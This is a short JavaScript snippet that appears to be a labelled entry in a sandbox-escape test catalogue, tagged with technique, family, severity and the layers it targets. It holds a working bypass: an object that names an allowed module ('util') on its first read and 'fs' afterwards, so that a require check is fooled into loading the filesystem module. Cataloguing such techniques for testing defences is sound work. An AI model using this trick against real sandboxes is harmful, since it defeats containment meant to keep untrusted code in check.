// technique: a name that is another at its second reading
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
readHost(() => {
  let read = 0;
  const name = { toString: () => (read++ ? 'fs' : 'util'), [Symbol.toPrimitive]: () => (read++ ? 'fs' : 'util') };
  let fs;
  try { fs = require(name); } catch { fs = require(String(name) && String(name)); }
  return () => fs;
});
